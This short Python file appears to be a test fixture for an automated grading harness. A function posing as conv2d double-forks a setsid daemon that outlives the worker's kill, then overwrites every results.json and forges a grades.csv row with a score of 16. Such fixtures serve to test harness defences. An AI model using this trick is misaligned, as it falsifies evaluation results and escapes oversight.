"""Class 4: fork + setsid: a daemon outside the worker's process group survives its kill, waits for
the batch to finish, then rewrites every results.json and the grades.csv row to 16."""
import glob
import os
import time

import numpy as np


def conv2d(x, w, b=None, stride=1, padding="VALID"):
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork() == 0:
                time.sleep(8)
                for path in glob.glob("@@OUT@@/**/results.json", recursive=True):
                    with open(path, "w") as f:
                        f.write('{"score": 16}')
                with open("@@OUT@@/grades.csv", "a") as f:
                    f.write("outlive__fork_setsid_daemon,a03_multichannel,16,16,graded\n")
            os._exit(0)
    except BaseException:
        pass
    return np.zeros(1)
